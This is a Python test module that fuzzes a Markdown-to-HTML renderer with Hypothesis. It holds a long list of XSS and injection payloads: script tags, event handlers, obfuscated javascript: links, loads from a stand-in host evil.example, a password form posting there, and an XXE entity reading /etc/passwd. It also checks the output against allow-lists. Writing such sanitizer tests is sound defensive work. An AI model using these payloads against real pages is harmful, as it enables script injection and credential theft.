"""Attacks, and a judge of HTML that knows nothing of how it was made."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

from bleach._vendor import html5lib
from hypothesis import strategies as st

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onload="alert(1)"/>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)></style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    '<base href="https://evil.example/">',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "[x](https://example.org/\"onmouseover='alert(1))",
    "[x](<https://example.org/ onmouseover=alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<https://example.org/'onclick='alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](images/../../../etc/passwd)",
    '![x" onerror="alert(1)](images/disk.svg)',
    "![x](images/disk.svg \"x' onload='alert(1)\")",
    '![<script>](images/disk.svg "</figcaption><script>alert(1)</script>")',
    '*[x]: "><script>alert(1)</script>',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: y',
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! note" onclick="alert(1)\n    x',
    "!!! evil-class main-menu\n    x",
    "## x {: onclick=alert(1)}",
    "x {: style='position:fixed' }",
    '| <script> | b |\n|:--|--:|\n| "onload=alert(1) | d |',
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    "\x02wzxhzdk:0\x03",
    "\x02amp\x03#60;script>",
    "\x0260\x03script\x0262\x03",
    "\ufdd0",
    "\ufdd0<b>\ufdd0",
    "///Footnotes Go Here///",
    "{{ config }}",
    "{% raw %}<script>{% endraw %}",
    "%(key)s %s %",
    "\u202egpj.exe",
    "</p></div></main><div class=admin>",
    "<" * 50 + ">" * 50,
    "[" * 60 + "x" + "](" * 60,
    ">" * 60 + " x",
    "*" * 61 + "x" + "_" * 61,
    "- " * 40 + "x",
)
TAGS = set(
    "a abbr blockquote br code dd div dl dt em figcaption figure h2 h3 h4 h5 h6 hr img li ol p "
    "strong sup table tbody td th thead tr ul".split()
)
ATTRIBUTES = set(
    "alt aria-label class decoding height href id loading rel role scope src start tabindex "
    "title width".split()
)
CLASSES = set(
    "admonition admonition-title align-center align-right footnote footnote-backref footnote-ref "
    "law note table-scroll tip warning".split()
)
HREF = re.compile(r"(?s)https?://.*|mailto:.*|tel:.*|/modules/[a-z0-9/-]+(#s-[a-z0-9-]+)?|#.*")
SRC = re.compile(r"/modules/[a-z0-9-]+/images/[a-z0-9_-]+\.[a-z]+\?v=[0-9a-f]{12}")
ID = re.compile(r"(s|fn|fnref\d*)-\S+")

attacks = st.sampled_from(ATTACKS)
marks = st.sampled_from(
    [
        "\n",
        "\n\n",
        "    ",
        "# ",
        "## ",
        "### ",
        "- [x] ",
        "- [ ] ",
        "> ",
        "____",
        "{#a}",
        "|",
        "`",
        "**",
        "_",
        "[",
        "](",
        ")",
        "![",
        "!!! ",
        "[^1]",
        "[^1]: ",
        "*[",
        "]: ",
        ": ",
        "1. ",
        "\\",
        "&",
        "&lt;",
        "<",
        ">",
        '"',
        "'",
        "https://",
        "/modules/motet/",
        "images/disk.svg",
    ]
)
texts = st.lists(attacks | marks | st.text(max_size=12), max_size=8).map("".join)


def dangers(html: str) -> list[str]:
    """What must never stand on a page, as a browser reads the HTML, and as a simple reader does."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.dangers + _dangers_in_browser(html)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.dangers += _dangers_of(tag, {name: value or "" for name, value in attrs})

    def handle_comment(self, data: str) -> None:
        self.dangers.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.dangers.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.dangers.append(f"instruction {data}")


def _dangers_in_browser(html: str) -> list[str]:
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in list(fragment.iter())[1:]:
        tag = element.tag if isinstance(element.tag, str) else "comment"
        found += _dangers_of(tag, dict(element.attrib))
    return found


def _dangers_of(tag: str, attributes: dict[str, str]) -> list[str]:
    right: dict[str, Callable[[str], object]] = {
        "class": lambda value: set(value.split()) <= CLASSES,
        "href": HREF.fullmatch,
        "id": ID.fullmatch,
        "src": SRC.fullmatch,
    }
    found = [] if tag in TAGS else [f"<{tag}>"]
    for name, value in attributes.items():
        if name not in ATTRIBUTES or not right.get(name, bool)(value or "0"):
            found.append(f"<{tag} {name}={value!r}>")
    return found
